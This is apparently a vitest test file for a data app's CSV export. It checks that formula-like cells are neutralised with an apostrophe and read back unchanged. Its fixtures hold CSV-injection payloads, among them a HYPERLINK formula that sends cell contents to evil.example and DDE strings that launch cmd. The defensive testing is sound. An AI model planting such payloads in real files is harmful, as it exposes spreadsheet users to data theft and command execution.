import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { deckToCsv, decksFromCsv, type UserDeck } from '$lib/briefing/userDecks';
import { readCsv } from '$lib/data/csv';
import { neutraliseFormula, restoreFormula } from '$lib/data/formula';
import { safeCsvText, toCsv } from '$lib/export/csv';
import { observationsCsv } from '$lib/targets/csv';
import type { Observation } from '$lib/data/types';

const hostile = [
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'+1 more',
	"-2+3+cmd|' /C calc'!A0",
	'\tTabbed',
	'\rCarriage'
];

/** Cells of CSV text, parsed by papaparse alone (what a spreadsheet would see). */
const cells = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('toCsv', () => {
	it('puts an apostrophe before every cell that starts with = + - @ tab or CR', () => {
		const text = toCsv(
			hostile.map((v) => ({ name: v })),
			['name']
		);
		expect(cells(text).slice(1)).toEqual([
			['\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
			["'@SUM(1+1)*cmd|' /C calc'!A0"],
			["'+1 more"],
			["'-2+3+cmd|' /C calc'!A0"],
			["'\tTabbed"],
			["'\rCarriage"]
		]);
	});

	it('writes plain numbers as they are, so numeric columns stay numbers', () => {
		const text = toCsv(
			[
				{ value: -3.5, year: 2023, text: '-3.5' },
				{ value: '+2', year: '-1e3', text: '.5' }
			],
			['value', 'year', 'text']
		);
		expect(text).toBe('value,year,text\r\n-3.5,2023,-3.5\r\n+2,-1e3,.5');
	});

	it('leaves ordinary text, and an apostrophe before a letter, alone', () => {
		expect(toCsv([['ITU', "'quoted' name", 'a=b']], ['a', 'b', 'c'], { newline: '\n' })).toBe(
			"a,b,c\nITU,'quoted' name,a=b"
		);
	});

	it('joins lists with ; and writes nothing for null and undefined', () => {
		expect(toCsv([{ a: ['x', 'y'], b: null, c: undefined }], ['a', 'b', 'c'])).toBe(
			'a,b,c\r\nx;y,,'
		);
	});
});

describe('reading back what toCsv wrote', () => {
	it('restores exactly the prefix the writer added', () => {
		for (const v of [...hostile, '-3.5', "'=already quoted", 'plain'])
			expect(restoreFormula(neutraliseFormula(v))).toBe(v);
		expect(restoreFormula("'Geneva'")).toBe("'Geneva'");
	});

	it('gives readCsv the original cells, so a round trip loses nothing', () => {
		const rows = hostile
			.filter((v) => v.trim() === v) // readCsv trims cells (a tab or CR at the start is whitespace)
			.map((v, i) => ({ id: `row-${i}`, name: v, value: i % 2 ? '-3.5' : '+7' }));
		const table = readCsv('t.csv', toCsv(rows, ['id', 'name', 'value']), {
			columns: ['id', 'name', 'value'],
			required: ['id']
		});
		expect(table.issues).toEqual([]);
		expect(table.records.map((r) => r.values)).toEqual(rows);
	});
});

describe('the target and deck exports', () => {
	const obs: Observation = {
		id: 'o1',
		indicator: 'growth',
		region: 'World',
		year: 2023,
		value: -3.5,
		unit: '%',
		edition: '=HYPERLINK("http://evil.example")',
		nature: 'estimated',
		status: 'verified',
		statusNote: '@SUM(A1:A9)',
		source: ['src'],
		origin: { file: 'observations.csv', row: 2 }
	} as Observation;

	it('neutralises formula cells in a target CSV but keeps -3.5 a number', () => {
		const [, row] = cells(observationsCsv([obs], new Map()));
		expect(row).toEqual([
			'growth',
			'World',
			'2023',
			'-3.5',
			'%',
			'\'=HYPERLINK("http://evil.example")',
			'estimated',
			'verified',
			"'@SUM(A1:A9)",
			'src',
			'src',
			'',
			'o1'
		]);
	});

	it('neutralises a poisoned deck and imports it back unchanged', () => {
		const deck: UserDeck = {
			id: 'poisoned',
			title: '=cmd|" /C calc"!A0',
			steps: [
				{ title: '+1 step', notes: hostile[0]!, view: 'graph', state: 'v=1' },
				{ title: '-minus', notes: '@mention', view: 'timeline', state: '' }
			]
		};
		const text = deckToCsv(deck);
		expect(cells(text)[1]!.slice(1, 5)).toEqual([
			'\'=cmd|" /C calc"!A0',
			'1',
			"'+1 step",
			'\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
		]);
		expect(decksFromCsv(text)).toEqual({ ok: true, decks: [deck] });
	});
});

describe('safeCsvText (the Data page serves each shipped table through it)', () => {
	it('returns a table without formula cells byte for byte', () => {
		const text = 'id,name,value\r\na,"Geneva, CH",-3.5\r\nb,ITU,2\r\n';
		expect(safeCsvText(text)).toBe(text);
	});
	it('neutralises formula cells of a poisoned table, which reads back unchanged', () => {
		const text = 'id,name\nx,"=HYPERLINK(""http://evil.example"")"\ny,@SUM(1)\n';
		const safe = safeCsvText(text);
		expect(cells(safe)).toEqual([
			['id', 'name'],
			['x', '\'=HYPERLINK("http://evil.example")'],
			['y', "'@SUM(1)"]
		]);
		const spec = { columns: ['id', 'name'], required: ['id'] };
		expect(readCsv('t.csv', safe, spec).records.map((r) => r.values)).toEqual(
			readCsv('t.csv', text, spec).records.map((r) => r.values)
		);
	});
});
